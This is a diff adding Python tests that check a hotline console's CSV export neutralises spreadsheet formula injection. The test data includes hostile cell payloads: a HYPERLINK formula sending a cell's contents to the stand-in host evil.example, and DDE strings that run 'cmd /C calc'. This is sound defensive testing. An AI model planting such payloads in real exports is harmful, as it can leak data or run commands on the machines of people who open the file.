@@ -15,6 +15,7 @@ from helpers import at
 
 from console import escalations_cli
 from console.cli import _Parser
+from console.formatting import csv_cell
 from console.settings import Settings
 from storage import ActionKind, CaseStatus, EscalationLog
 
@@ -250,3 +251,61 @@ def test_usage_errors_are_argparse_one_liners(hotline: Run, db_path: Path) -> No
     assert code == 2 and "'abc' is not a whole number" in err
     code, _, err = hotline()
     assert code == 2 and "ACTION" in err
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(hotline: Run, db_path: Path) -> None:
+    # OWASP "CSV injection": a summary, a logger or a note that starts like a formula is written with a
+    # leading ' so a spreadsheet shows it as text; everything else is written as typed
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1 来电",
+        "\r=1+1 来电",
+    ]
+    for number, summary in enumerate(hostile, start=1):
+        code, _, err = hotline(
+            *add_args(db_path, f"--summary={summary}", f"--call-id=C09{number:02d}", "--by=@班长",
+                      "--action", "called_back@2026-11-27T09:12:=HYPERLINK(\"http://evil.example\")")
+        )  # fmt: skip
+        assert code == 0, err
+    hotline(*add_args(db_path, "--call-id=C0999", "--summary=普通来电 -2 分钟 =x"))  # harmless: not at the start
+
+    code, out, err = hotline("export", "--csv", "--db", str(db_path))
+    assert code == 0 and err == ""
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    header, cells = rows[0], [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    by_call = {row[header.index("call_id")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
+    for number, summary in enumerate(hostile, start=1):
+        row = by_call[f"C09{number:02d}"]
+        # the text kept whole behind the quote (the log strips the blanks around a summary)
+        assert row["summary"] == "'" + summary.strip()
+        assert row["logged_by"] == "'@班长"
+        # a note inside the actions cell does not start the cell: left as typed
+        assert row["actions"] == '2026-11-27T09:12:00+08:00 回拨 (@班长): =HYPERLINK("http://evil.example")'
+    harmless = by_call["C0999"]
+    assert harmless["summary"] == "普通来电 -2 分钟 =x" and harmless["logged_by"] == "王班长"
+    assert harmless["case_id"] == "7" and harmless["severity"] == "3"  # numbers stay numbers
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("\t=1+1", "'\t=1+1"),  # a tab or a carriage return first: the log strips them, the rule holds anyway
+        ("\r=1+1", "'\r=1+1"),
+        ("=1+1", "'=1+1"),
+        ("-", "'-"),
+        ("王班长 =1", "王班长 =1"),
+        ("", ""),
+        (None, ""),
+        (-3, -3),  # a number the export writes itself stays a number, negative or not
+        (2.5, 2.5),
+    ],
+)
+def test_one_rule_for_every_csv_cell(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
